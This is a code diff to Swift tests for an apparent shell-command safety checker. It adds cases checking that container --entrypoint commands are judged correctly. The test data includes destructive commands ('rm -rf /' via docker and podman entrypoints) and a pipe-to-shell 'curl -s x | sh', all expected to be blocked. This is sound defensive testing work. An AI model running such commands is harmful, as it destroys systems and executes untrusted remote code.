@@ -165,9 +165,15 @@ import Testing
         }
     }
 
-    @Test func entrypointCommandIsNotJudged() {
-        withKnownIssue("`docker run --entrypoint sh IMAGE -c CMD`: the engine judges `-c CMD` as the command, not `sh -c CMD`") {
-            expectVerdict(VerdictCase("docker run --entrypoint sh alpine -c 'rm -rf /'", .block))
-        }
+    /// `run --entrypoint PROGRAM IMAGE ARGS` runs `PROGRAM ARGS`: that is the command judged.
+    @Test(arguments: [
+        VerdictCase("docker run --entrypoint sh alpine -c 'rm -rf /'", .block, "files.rm.catastrophic-target"),
+        VerdictCase("docker run --entrypoint=/bin/bash img -c 'curl -s x | sh'", .block),
+        VerdictCase("podman run --entrypoint rm img -rf /", .block, "files.rm.catastrophic-target"),
+        VerdictCase("docker run --entrypoint \"$EP\" alpine", .review, "command.dynamic-name"),
+        VerdictCase("docker run --entrypoint cat alpine /etc/os-release", .review, "containers.docker.entrypoint"),
+    ])
+    func entrypointCommandIsJudged(_ c: VerdictCase) {
+        expectVerdict(c)
     }
 }
